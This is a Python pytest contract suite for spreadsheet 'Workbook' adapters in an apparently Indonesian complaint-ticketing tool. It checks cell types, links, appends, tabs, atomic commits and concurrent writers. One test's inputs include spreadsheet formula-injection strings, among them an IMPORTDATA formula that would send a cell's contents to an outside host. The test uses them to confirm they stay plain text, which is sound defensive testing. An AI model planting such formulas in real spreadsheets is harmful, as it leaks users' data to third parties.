"""What every kind of `Workbook` promises. An adapter's test-suite subclasses `WorkbookContract`, says how its workbooks
are made and edited by hand, and inherits every test here."""

from collections.abc import Callable, Mapping, Sequence
from concurrent.futures import ThreadPoolExecutor
from datetime import date
from functools import partial
from typing import Protocol

import pytest

from automation.model.cells import CellError, Link, Value, Writable, serial_of, shown_alike
from automation.sheets.port import CellWrite, Changes, NewTab, Snapshot, Tab, Workbook
from automation.trouble import Outrun, WorkbookError

Typed = Value | date
Content = Mapping[str, Sequence[Sequence[Typed]]]
Rows = Sequence[Sequence[Writable]]

TAB = "Gondrong"
ROWS: tuple[tuple[Typed, ...], ...] = (
    ("No. Tiket", "Nama", "Telepon", "Uraian"),
    (None, "Ani", "081211112222", "Lampu jalan mati"),
    (None, "Budi", "081233334444", "Saluran mampet"),
    (None, "Citra", "081255556666", "Jalan berlubang"),
)
WHATSAPP = "https://wa.me/6281200001021?text=Yth.%20Ibu%2C%0A%0A%E2%80%9CJalan%20%26%20Drainase%E2%80%9D%20100%25"
JOURNAL = "Riwayat"
EVENTS: tuple[tuple[Typed, ...], ...] = (("Urutan", "Rincian"), (1, "satu"))


class Person(Protocol):
    """Somebody who edits the workbook while the robot is not looking. Rows and columns are 0-based, as in `Tab`."""

    def set(self, tab_title: str, row: int, column: int, value: Typed) -> None: ...  # text goes in as text
    def insert_row(self, tab_title: str, at: int) -> None: ...  # an empty one, above row `at`
    def sort(self, tab_title: str, column: int) -> None: ...  # all rows below the first, by text, ascending
    def rename_tab(self, old: str, new: str) -> None: ...
    def values(self, tab_title: str) -> Sequence[Sequence[Value]]: ...  # without the robot's own reader
    def formulas(self, tab_title: str) -> Sequence[tuple[int, int]]: ...  # row and column of each


class WorkbookContract:
    """Every test gets its workbooks from the methods below, which an adapter's test class overrides."""

    def make(self, tabs: Content) -> Workbook:
        """A fresh workbook with exactly these tabs, in this order; a `CellError` is a cell that shows that error."""
        raise NotImplementedError

    def another(self, workbook: Workbook) -> Workbook:
        raise NotImplementedError

    def person(self, workbook: Workbook) -> Person:
        raise NotImplementedError

    def lose(self, workbook: Workbook) -> None:
        """Take the spreadsheet away: deleted, or no longer shared with the robot."""
        raise NotImplementedError

    # Reading

    @pytest.mark.parametrize(
        "value",
        [
            "081234567890", "003/007", "1e5", "nan", "3.500", "TRUE", " spasi di tepi ", "dua\nbaris", "=1+1", 12, 0,
            -3, 0.25, 81234567890, True, False,
        ],
    )  # fmt: skip
    def test_a_value_is_read_as_it_was_typed(self, value: Value) -> None:
        read = _rows(self.make({TAB: [["a", value, "b"]]}).read())
        assert read == [["a", value, "b"]]
        assert isinstance(read[0][1], bool) == isinstance(value, bool)
        assert isinstance(read[0][1], str) == isinstance(value, str)

    def test_a_date_is_read_as_its_serial(self) -> None:
        days = [date(2026, 11, 24), date(2024, 2, 29), date(1999, 12, 31)]
        assert _rows(self.make({TAB: [days]}).read()) == [[46350, 45351, 36525]]

    @pytest.mark.parametrize("text", ["#REF!", "#DIV/0!", "#N/A", "#VALUE!", "#NAME?"])
    def test_a_cell_that_shows_an_error_is_no_text(self, text: str) -> None:
        assert _rows(self.make({TAB: [["a", CellError(text)]]}).read()) == [["a", CellError(text)]]

    def test_a_row_keeps_its_place_between_empty_rows(self) -> None:
        rows = _rows(self.make({TAB: [["judul"], [], [None, None, "x"], [], ["y"], [], [None]]}).read())
        assert rows == [["judul"], [], [None, None, "x"], [], ["y"]]

    def test_tabs_keep_their_order_and_an_empty_one_is_there(self) -> None:
        snapshot = self.make({"Poris Plawad": [["a"]], "Gondrong": [], "Cipondoh Indah": [["b"]]}).read()
        assert [tab.title for tab in snapshot.tabs] == ["Poris Plawad", "Gondrong", "Cipondoh Indah"]
        assert [_trimmed(tab.rows) for tab in snapshot.tabs] == [[["a"]], [], [["b"]]]
        assert len({tab.key for tab in snapshot.tabs}) == 3
        assert not any(tab.hidden for tab in snapshot.tabs)
        assert snapshot.name

    def test_what_a_person_typed_is_seen_at_the_next_reading(self) -> None:
        workbook = self.make({TAB: ROWS})
        workbook.read()
        self.person(workbook).set(TAB, 4, 1, "Dedi")
        assert _rows(workbook.read())[4] == [None, "Dedi"]

    # Writing cells

    def test_cells_are_written_exactly_there_together_and_nowhere_else(self) -> None:
        workbook = self.make({TAB: ROWS, "Petir": ROWS, "Cimone": ROWS})
        seen = workbook.read()
        cells = [_cell(seen, row, 0, f"{title} {row}", title) for title in (TAB, "Petir") for row in (1, 3)]
        far = [_cell(seen, 0, 30, "kanan"), _cell(seen, 1500, 0, "bawah")]
        after = workbook.commit(Changes(cells=[*cells, *far]), seen)
        for title in (TAB, "Petir"):
            expected = [[f"{title} {n}" if n in (1, 3) else row[0], *row[1:]] for n, row in enumerate(ROWS)]
            written = _trimmed(self.person(workbook).values(title))
            assert [row[:4] for row in written[: len(ROWS)]] == expected
        assert (_rows(after)[0][30], _rows(after)[1500][0]) == ("kanan", "bawah")
        assert _trimmed(self.person(workbook).values("Cimone")) == [list(row) for row in ROWS]

    @pytest.mark.parametrize(
        ("value", "read"),
        [
            (date(2026, 11, 24), 46350),
            (46350, 46350),
            (46352.583333333336, 46352.583333333336),
            ("Ada\x00 yang\x0b pu\x1ftus\ufffe\ud800", "Ada yang putus"),
            ("satu\r\ndua\rtiga", "satu\ndua\ntiga"),
            (Link("https://example.org/baris?tab=1#A12"), "https://example.org/baris?tab=1#A12"),
        ],
        ids=["a date", "a number", "a moment", "control characters", "line ends", "a link"],
    )
    def test_what_is_written_reads_back_as_what_it_is(self, value: str | date | float, read: Value) -> None:
        assert self._written(value) == read

    @pytest.mark.parametrize("value", [None, ""])
    def test_a_cell_can_be_emptied(self, value: str | None) -> None:
        workbook = self.make({TAB: ROWS})
        seen = workbook.read()
        after = workbook.commit(Changes(cells=[_cell(seen, 1, 1, value)]), seen)
        assert _rows(after)[1] == [None, None, "081211112222", "Lampu jalan mati"]

    @pytest.mark.parametrize(
        "text",
        [
            "=1+1",
            '=IMPORTDATA("https://example.org/?"&A1)',
            "+6281234567890",
            "-5 orang",
            "@budi",
            "\t=1+1",
            "'=1+1",
            "{=1+1}",
        ],
    )
    def test_text_that_looks_like_a_formula_stays_text(self, text: str) -> None:
        workbook = self.make({TAB: ROWS, JOURNAL: EVENTS})
        seen = workbook.read()
        after = workbook.commit(Changes(appends={JOURNAL: [[2, text]]}, cells=[_cell(seen, 1, 0, text)]), seen)
        assert _rows(after)[1][0] == text
        assert _rows(after, JOURNAL)[2] == [2, text]
        person = self.person(workbook)
        assert not person.formulas(TAB)
        assert not person.formulas(JOURNAL)

    @pytest.mark.parametrize(
        "text",
        [
            "081234567890", "003/007", "24/11/2026", "1e5", "TRUE", "#REF!", "Lampu mati 🙏🏽 👨‍👩‍👧 sejak Senin",
            "مرحبا بكم في تانجيرانج", "abc \u202eterbalik\u202c", "satu\ndua\n\ntiga", "kolom\tkolom",
            " spasi di tepi ", "<b>&amp; \"kutip\" 'tunggal'</b>", "_x0041_ dan _x000D_", "x" * 32_000, "🙏" * 8_000,
        ],
        ids=lambda text: text[:12],
    )  # fmt: skip
    def test_text_survives_unchanged(self, text: str) -> None:
        if text == "#REF!":
            assert self._written(text) in (text, CellError(text))
        else:
            assert self._written(text) == text

    def test_a_link_with_a_label_shows_the_label_and_opens_the_address(self) -> None:
        workbook = self.make({TAB: ROWS})
        seen = workbook.read()
        assert [_opened(_first(seen, row)) for row in (1, 2)] == [(None, None)] * 2
        seen = self._link(workbook, seen, Link("WhatsApp: diterima (0812)", WHATSAPP))
        assert seen.tabs == workbook.read().tabs
        assert _opened(_first(seen, 1)) == ("WhatsApp: diterima (0812)", WHATSAPP)
        assert _rows(seen)[1][0] == "WhatsApp: diterima (0812)", "it is compared as what it shows"
        beside = [CellWrite(seen.tabs[0].key, 1, 1, "Ana"), CellWrite(seen.tabs[0].key, 2, 0, date(2026, 11, 24))]
        seen = workbook.commit(Changes(cells=beside), seen)
        assert _opened(_first(seen, 1)) == ("WhatsApp: diterima (0812)", WHATSAPP)
        assert seen.tabs == workbook.read().tabs
        number = Link("Telepon (021) 5512345", "tel:+62215512345")
        seen = self._link(workbook, seen, number)
        assert _first(seen, 1) == "Telepon (021) 5512345"
        assert shown_alike(_first(seen, 1), number) and shown_alike(_first(workbook.read(), 1), number)
        seen = self._link(workbook, seen, "Telepon (021) 5512345")  # text in its place opens nothing
        for read in (seen, workbook.read()):
            assert _opened(_first(read, 1)) == ("Telepon (021) 5512345", None)

    def test_a_link_with_a_label_is_rewritten_and_cleared_whole(self) -> None:
        workbook = self.make({TAB: ROWS})
        seen = self._link(workbook, workbook.read(), Link("WhatsApp", WHATSAPP))
        other = WHATSAPP.replace("1021", "1022")
        assert not shown_alike(_first(seen, 1), Link("WhatsApp", other)), "another address behind the same words"
        seen = self._link(workbook, seen, Link("WhatsApp", other))
        assert _opened(_first(seen, 1)) == ("WhatsApp", other)
        seen = self._link(workbook, seen, None)
        assert _rows(seen)[1] == list(ROWS[1])
        seen = self._link(workbook, seen, "hanya teks")
        assert _opened(_first(seen, 1)) == _opened(_first(workbook.read(), 1)) == ("hanya teks", None)

    def _link(self, workbook: Workbook, seen: Snapshot, value: Writable) -> Snapshot:
        return workbook.commit(Changes(cells=[CellWrite(seen.tabs[0].key, 1, 0, value)]), seen)

    # Appending

    def test_rows_are_appended_below_the_last_row_that_holds_anything(self) -> None:
        workbook = self.make({TAB: ROWS, JOURNAL: [*EVENTS, [], [None, "jauh di bawah"], [], []]})
        many: Rows = [[number, f"peristiwa {number}"] for number in range(4, 1_502)]
        seen = workbook.commit(Changes(appends={JOURNAL: [[2, "dua"], [3, None, "tiga"]]}), workbook.read())
        last: Rows = [[0, date(2026, 11, 24)]]
        after = workbook.commit(Changes(appends={JOURNAL: [*many, *last]}), seen)
        first = [[None, "jauh di bawah"], [2, "dua"], [3, None, "tiga"]]
        assert _rows(after, JOURNAL)[3:] == [*first, *many, [0, 46350]]
        assert _rows(after) == [list(row) for row in ROWS]

    def test_rows_appended_to_an_empty_tab_start_at_its_first_row(self) -> None:
        workbook = self.make({TAB: ROWS, JOURNAL: []})
        after = workbook.commit(Changes(appends={JOURNAL: [["Urutan", "Rincian"], [1, "satu"]]}), workbook.read())
        assert _rows(after, JOURNAL) == [["Urutan", "Rincian"], [1, "satu"]]

    # New tabs

    def test_a_new_tab_comes_with_its_headings_and_takes_rows_in_the_same_commit(self) -> None:
        workbook = self.make({TAB: ROWS})
        new = (
            NewTab(JOURNAL, ("Urutan", "Waktu", "Rincian"), hidden=True, protected=True),
            NewTab("Petir", ("Tanggal Masuk", "Telepon")),
        )
        day = date(2026, 11, 24)
        appends: dict[str, Rows] = {
            JOURNAL: [[1, "2026-11-24T08:00:00+07:00", "satu"]],
            "Petir": [[day, "081234567890"]],
        }
        after = workbook.commit(Changes(new_tabs=new, appends=appends), workbook.read())
        assert [tab.title for tab in after.tabs] == [TAB, JOURNAL, "Petir"]
        assert [tab.hidden for tab in after.tabs] == [False, True, False]
        assert _rows(after, JOURNAL) == [["Urutan", "Waktu", "Rincian"], [1, "2026-11-24T08:00:00+07:00", "satu"]]
        assert _rows(after, "Petir") == [["Tanggal Masuk", "Telepon"], [serial_of(day), "081234567890"]]
        assert _same(after, workbook.read())

    def test_a_tab_is_put_away_and_a_new_one_begun_under_its_title_in_one_commit(self) -> None:
        workbook = self.make({TAB: ROWS, JOURNAL: EVENTS, "Petir": []})
        seen = workbook.read()
        seen = workbook.commit(Changes(cells=[_cell(seen, 1, 0, "x")]), seen)  # the fence stands in the journal
        new = NewTab(JOURNAL, ("Urutan", "Rincian"), hidden=True, protected=True)
        away = {_tab(seen, JOURNAL).key: f"{JOURNAL} 2026", _tab(seen, TAB).key: "Gondrong's 2026"}
        changes = Changes((new, NewTab(TAB, ("a",))), {JOURNAL: [[2, "dua"]]}, put_away=away)
        after = workbook.commit(changes, seen)
        assert _rows(after, JOURNAL) == [["Urutan", "Rincian"], [2, "dua"]] and _rows(after, TAB) == [["a"]]
        assert _rows(after, f"{JOURNAL} 2026") == [*map(list, EVENTS)]
        assert {tab.title for tab in after.tabs if tab.hidden} == {JOURNAL, f"{JOURNAL} 2026", "Gondrong's 2026"}
        assert _same(after, workbook.read())
        assert [tab.title for tab in after.tabs] == [tab.title for tab in seen.after(changes).tabs]
        with pytest.raises(Outrun):
            workbook.commit(Changes(cells=[_cell(seen, 1, 0, "y")]), seen)
        later = workbook.commit(Changes(cells=[_cell(after, 1, 0, "z", TAB)], appends={JOURNAL: [[3, "tiga"]]}), after)
        assert _rows(later, JOURNAL)[-1] == [3, "tiga"] and _rows(later, f"{JOURNAL} 2026") == [*map(list, EVENTS)]
        with pytest.raises(WorkbookError):
            workbook.commit(Changes(put_away={_tab(later, TAB).key: JOURNAL}), later)

    def test_a_protected_tab_still_takes_what_the_robot_writes(self) -> None:
        workbook = self.make({TAB: ROWS})
        new = NewTab(JOURNAL, ("Urutan", "Rincian"), hidden=True, protected=True)
        seen = workbook.commit(Changes(new_tabs=(new,)), workbook.read())
        after = workbook.commit(Changes(appends={JOURNAL: [[1, "satu"]]}), seen)
        assert _rows(after, JOURNAL) == [["Urutan", "Rincian"], [1, "satu"]]

    # The tab with which a new spreadsheet began

    def test_a_bare_tab_goes_with_all_else_that_is_to_be_written_and_the_next_commit_is_fenced_as_before(self) -> None:
        for others in ({TAB: ROWS}, {TAB: ROWS, JOURNAL: EVENTS}):  # fences stand in the first tab, or in the journal
            workbook = self.make({"Sheet1": [], **others})
            seen = workbook.read()
            seen = workbook.commit(Changes(cells=[_cell(seen, 1, 0, "x")]), seen)
            changes = Changes((NewTab("Petir", ("a",)),), {TAB: [["baris"]]}, removed=_tab(seen, "Sheet1").key)
            after = workbook.commit(changes, seen)
            assert [tab.title for tab in after.tabs] == [*others, "Petir"] and _same(after, workbook.read())
            assert [row[0] for row in _rows(after, TAB)] == ["No. Tiket", "x", None, None, "baris"]
            again = Changes(cells=[_cell(after, 2, 0, "y")])
            workbook.commit(again, after)
            with pytest.raises(Outrun):
                self.another(workbook).commit(again, after)

    def test_a_tab_stays_in_which_somebody_has_typed_and_all_else_is_written(self) -> None:
        workbook = self.make({"Sheet1": [["kerangka rapat"]], TAB: ROWS})
        seen = workbook.read()
        removed = _tab(seen, "Sheet1").key
        after = workbook.commit(Changes(cells=[_cell(seen, 1, 0, "x")], removed=removed), seen)
        assert [tab.title for tab in after.tabs] == ["Sheet1", TAB] and _rows(after, TAB)[1][0] == "x"
        assert workbook.commit(Changes(removed=removed), after) == after

    def test_what_is_typed_into_it_after_it_was_read_stays_and_is_seen(self) -> None:
        workbook = self.make({"Sheet1": [], TAB: ROWS})
        seen = workbook.read()
        self.person(workbook).set("Sheet1", 0, 0, "saya duluan")
        after = self._committed_or_outrun(workbook, Changes(removed=_tab(seen, "Sheet1").key), seen)
        assert not after.tabs[0].hidden
        assert _rows(workbook.read(), "Sheet1") == [["saya duluan"]]

    # All or nothing

    def test_a_commit_that_was_outrun_changes_nothing_and_a_fresh_reading_can_be_committed(self) -> None:
        workbook = self.make({TAB: ROWS, JOURNAL: EVENTS})
        seen = workbook.read()
        other = self.another(workbook)
        others = other.commit(Changes(appends={JOURNAL: [[2, "lebih dulu"]]}), other.read())
        late: dict[str, Rows] = {JOURNAL: [[2, "terlambat"]]}
        changes = Changes((NewTab("Petir", ("a",)),), late, [_cell(seen, 1, 0, "RR-260503-0001-3")])
        with pytest.raises(Outrun):
            workbook.commit(changes, seen)
        assert _same(workbook.read(), others)
        fresh = workbook.read()
        after = workbook.commit(Changes(cells=[_cell(fresh, 2, 0, "B")]), fresh)
        assert [row[0] for row in _rows(after)[1:3]] == [None, "B"]
        assert _rows(after, JOURNAL)[-1] == [2, "lebih dulu"]

    def test_the_same_snapshot_is_good_for_one_commit_only(self) -> None:
        workbook = self.make({JOURNAL: EVENTS})
        seen = workbook.read()
        workbook.commit(Changes(appends={JOURNAL: [[2, "dua"]]}), seen)
        with pytest.raises(Outrun):
            workbook.commit(Changes(appends={JOURNAL: [[2, "dua"]]}), seen)
        assert _rows(workbook.read(), JOURNAL) == [["Urutan", "Rincian"], [1, "satu"], [2, "dua"]]

    def test_a_tab_that_is_not_there_stops_the_whole_commit(self) -> None:
        workbook = self.make({TAB: ROWS, JOURNAL: EVENTS})
        seen = workbook.read()
        for changes in (
            Changes(appends={JOURNAL: [[2, "dua"]]}, cells=[CellWrite("987654", 0, 0, "x")]),
            Changes(appends={JOURNAL: [[2, "dua"]], "Tidak Ada": [["x"]]}, cells=[_cell(seen, 1, 0, "x")]),
            Changes(appends={JOURNAL: [[2, "dua"]]}, new_tabs=(NewTab("Petir", ("a",)), NewTab(TAB, ("a",)))),
        ):
            with pytest.raises(WorkbookError):
                workbook.commit(changes, seen)
            assert _same(workbook.read(), seen)

    def test_what_a_commit_returns_is_what_a_fresh_reading_finds_and_can_be_committed_on(self) -> None:
        workbook = self.make({TAB: ROWS, JOURNAL: EVENTS})
        seen = workbook.read()
        cells = [_cell(seen, 1, 0, "x"), _cell(seen, 2, 1, None), _cell(seen, 3, 4, date(2026, 1, 2))]
        after = workbook.commit(Changes(appends={JOURNAL: [[2, "dua"], [3, date(2026, 1, 2)]]}, cells=cells), seen)
        assert _same(after, workbook.read())
        assert _same(after, self.another(workbook).read())
        assert _rows(after)[3][4] == 46024
        for row in (1, 2, 3):
            after = workbook.commit(Changes(cells=[_cell(after, row, 0, f"nomor {row}")]), after)
        assert [row[0] for row in _rows(workbook.read())[1:]] == ["nomor 1", "nomor 2", "nomor 3"]

    def test_two_robots_at_once_lose_no_commit_and_never_issue_the_same_number(self) -> None:
        first = self.make({JOURNAL: EVENTS})
        second = self.another(first)

        def next_number(name: str, seen: Snapshot) -> Changes:
            last = max(int(str(row[0])) for row in _rows(seen, JOURNAL)[1:])
            return Changes(appends={JOURNAL: [[last + 1, name]]})

        def run(workbook: Workbook, name: str) -> None:
            for number in range(6):
                _until_it_applies(workbook, partial(next_number, f"{name}{number}"))

        with ThreadPoolExecutor(2) as pool:
            for future in [pool.submit(run, first, "a"), pool.submit(run, second, "b")]:
                future.result()
        written = _rows(first.read(), JOURNAL)[2:]
        assert [row[0] for row in written] == list(range(2, 14))
        for name in "ab":
            assert [row[1] for row in written if str(row[1]).startswith(name)] == [f"{name}{n}" for n in range(6)]

    # People at work between reading and committing

    def test_a_row_typed_in_between_is_not_lost(self) -> None:
        workbook = self.make({TAB: ROWS})
        seen = workbook.read()
        person = self.person(workbook)
        person.set(TAB, 4, 1, "Dedi")
        after = self._committed_or_outrun(workbook, Changes(cells=[_cell(seen, 1, 0, "x")]), seen)
        assert _rows(after)[4] == [None, "Dedi"]
        assert person.values(TAB)[4][1] == "Dedi"

    def test_rows_inserted_or_sorted_in_between_show_in_what_the_commit_returns(self) -> None:
        moves: tuple[Callable[[Person], None], ...] = (
            lambda person: person.insert_row(TAB, 2),
            lambda person: person.sort(TAB, 3),
        )
        for move in moves:
            workbook = self.make({TAB: ROWS})
            seen = workbook.read()
            move(self.person(workbook))
            moved = self.another(workbook).read()
            assert not _same(moved, seen)
            after = self._committed_or_outrun(workbook, Changes(cells=[_cell(seen, 1, 0, "x")]), seen)
            assert [row[1:] for row in _rows(after)] == [row[1:] for row in _rows(moved)]
            assert _same(after, workbook.read())

    def test_a_tab_renamed_in_between_is_still_the_same_tab_or_nothing_is_written(self) -> None:
        workbook = self.make({TAB: ROWS, "Petir": ROWS})
        seen = workbook.read()
        self.person(workbook).rename_tab(TAB, "Gondrong Baru")
        after = self._committed_or_outrun(workbook, Changes(cells=[_cell(seen, 1, 0, "x")]), seen)
        assert [tab.title for tab in after.tabs] == ["Gondrong Baru", "Petir"]
        assert _rows(after, "Gondrong Baru")[1][1:] == list(ROWS[1][1:])
        assert _rows(after, "Petir") == [list(row) for row in ROWS]

    # Elsewhere

    def test_a_spreadsheet_that_is_gone_is_an_error_of_that_workbook(self) -> None:
        workbook = self.make({TAB: ROWS})
        seen = workbook.read()
        self.lose(workbook)
        with pytest.raises(WorkbookError):
            workbook.read()
        with pytest.raises(WorkbookError):
            workbook.commit(Changes(cells=[_cell(seen, 1, 0, "x")]), seen)
        with pytest.raises(WorkbookError):
            self.another(workbook).read()

    def test_each_row_has_a_link_of_its_own_and_two_robots_call_the_spreadsheet_by_the_same_name(self) -> None:
        workbook = self.make({TAB: ROWS, "Petir": ROWS})
        first, second = workbook.read().tabs
        links = {workbook.link(tab, row) for tab in (first, second) for row in (1, 2)}
        assert len(links) == 4 and all(links)
        assert workbook.source and self.another(workbook).source == workbook.source

    # What the tests are made of

    def _written(self, value: str | date | float | None) -> Value:
        """What a value reads back as, beside its neighbours, once from the commit and once from a fresh reading."""
        workbook = self.make({TAB: ROWS})
        seen = workbook.read()
        after = workbook.commit(Changes(cells=[_cell(seen, 1, 0, value)]), seen)
        assert _same(after, workbook.read())
        assert _rows(after)[1][1:] == list(ROWS[1][1:])
        return _rows(after)[1][0]

    def _committed_or_outrun(self, workbook: Workbook, changes: Changes, seen: Snapshot) -> Snapshot:
        """The workbook after a commit that may be refused because people were at work."""
        try:
            return workbook.commit(changes, seen)
        except Outrun:
            return workbook.read()


def _until_it_applies(workbook: Workbook, decide: Callable[[Snapshot], Changes]) -> Snapshot:
    """Read, decide and commit until no other robot was faster, as the cycle does."""
    for _ in range(200):
        seen = workbook.read()
        try:
            return workbook.commit(decide(seen), seen)
        except Outrun:
            continue
    raise AssertionError("outrun 200 times in a row")


def _cell(seen: Snapshot, row: int, column: int, value: str | date | float | None, title: str = TAB) -> CellWrite:
    return CellWrite(_tab(seen, title).key, row, column, value)


def _tab(snapshot: Snapshot, title: str = TAB) -> Tab:
    tab = snapshot.tab(title)
    assert tab is not None, f"no tab {title}"
    return tab


def _first(snapshot: Snapshot, row: int) -> Value:
    cells = snapshot.tabs[0].rows[row]
    return cells[0] if cells else None


def _opened(value: Value) -> tuple[Value, str | None]:
    """What a cell shows, and the address that it opens."""
    return (str(value), value.address) if isinstance(value, Link) else (value, None)


def _rows(snapshot: Snapshot, title: str | None = None) -> list[list[Value]]:
    """The rows of a tab (or of the first), without the trailing empties that an adapter may leave out."""
    tab = snapshot.tabs[0] if title is None else _tab(snapshot, title)
    return _trimmed(tab.rows)


def _trimmed(rows: Sequence[Sequence[Value]]) -> list[list[Value]]:
    trimmed: list[list[Value]] = []
    for row in rows:
        cells = list(row)
        while cells and cells[-1] is None:
            cells.pop()
        trimmed.append(cells)
    while trimmed and not trimmed[-1]:
        trimmed.pop()
    return trimmed


def _same(one: Snapshot, other: Snapshot) -> bool:
    def content(snapshot: Snapshot) -> list[tuple[str, str, bool, list[list[Value]]]]:
        return [(tab.key, tab.title, tab.hidden, _trimmed(tab.rows)) for tab in snapshot.tabs]

    return one.name == other.name and content(one) == content(other)
